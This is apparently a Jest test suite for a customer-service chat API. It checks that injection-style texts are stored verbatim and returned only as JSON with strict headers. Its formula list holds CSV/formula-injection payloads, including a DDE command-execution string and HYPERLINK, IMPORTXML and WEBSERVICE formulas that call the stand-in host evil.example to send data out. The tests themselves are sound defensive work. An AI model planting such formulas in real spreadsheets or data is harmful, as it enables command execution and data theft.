import { describe, expect, it } from '@jest/globals';
import type { Answer } from './support/http.js';
import { agentPassword } from './support/agents.js';
import { agent, type Chat } from './support/chat.js';
import { chatSuite } from './support/chat-suite.js';
import { payloads } from './support/payloads.js';

/** What a spreadsheet takes for a formula. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"x")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '"=1+1"',
  '\uff1d1+1',
];

const texts = [...payloads, ...formulas];

/** Nothing is escaped where it is stored: whoever shows it knows for what. Nothing takes it for more than JSON. */
describe('texts that mean something elsewhere', () => {
  const suite = chatSuite();

  const expectJson = ({ headers }: Answer) => {
    expect(headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('content-security-policy')).toContain("default-src 'none'");
  };
  const ask = async (method: string, path: string, body?: object): Promise<Answer> => {
    const answer = await suite.kefu.call(method, path, { token: suite.admin, ...(body === undefined ? {} : { body }) });
    expectJson(answer);
    return answer;
  };

  it('are kept letter by letter in every field of a customer', async () => {
    for (const [index, text] of texts.entries()) {
      const tag = [...text].slice(0, 64).join('').trim();
      const person = {
        ...{ name: text, location: text, notes: text, tags: [tag], customFields: { key: text, nested: [text] } },
        ...{ primaryChannel: 'WEB', lineId: `line-${index}-` },
      };
      const created = await ask('POST', '/customers', person);
      expect([text, created.status]).toEqual([text, 201]);
      const read = await ask('GET', `/customers/${created.data.id as string}`);
      expect(read.data).toMatchObject(person);
      const found = await ask('GET', `/customers?q=${person.lineId}`);
      expect(found.data.content[0]).toMatchObject(person);
    }
  });

  it('are said and heard letter by letter, over connections and REST', async () => {
    const [visitor, desk] = [await suite.newCustomer(), await suite.newAgent()];
    let conversationId = '';
    const heard = (chat: Chat, content: string) => chat.next((frame) => frame.content === content);
    for (const text of texts) {
      const metadata = { text };
      conversationId = (await visitor.chat.post(text, { metadata })).conversationId as string;
      expect((await heard(desk.chat, text)).metadata).toEqual(metadata);
    }
    const { data } = await ask('GET', `/conversations/${conversationId}/messages?afterSeq=0&limit=200`);
    expect(data.map(({ content }: { content: string }) => content)).toEqual(texts);
  });

  it('are kept letter by letter in the names of agents and in canned replies', async () => {
    const { id } = await agent(suite.kefu);
    for (const [index, text] of texts.entries()) {
      expect((await ask('PUT', `/agents/${id}`, { name: text })).data.name).toBe(text);
      const reply = await ask('POST', '/canned-replies', { shortcut: `k${index}`, content: text });
      expect([reply.status, reply.data.content]).toEqual([201, text]);
    }
    const { data } = await ask('GET', '/colleagues');
    expect(data).toContainEqual(expect.objectContaining({ id, name: texts.at(-1) }));
  });

  it('come back in errors as JSON, where they come back at all', async () => {
    for (const text of texts) {
      const sent = encodeURIComponent(text.toWellFormed());
      expectJson(await suite.kefu.call('GET', `/customers?${sent}=1`, { token: suite.admin }));
      expectJson(await suite.kefu.callRoot('GET', `/${sent}`));
      expectJson(
        await suite.kefu.call('POST', '/auth/login', { body: { email: text, password: agentPassword, [text]: 1 } }),
      );
    }
  });
});
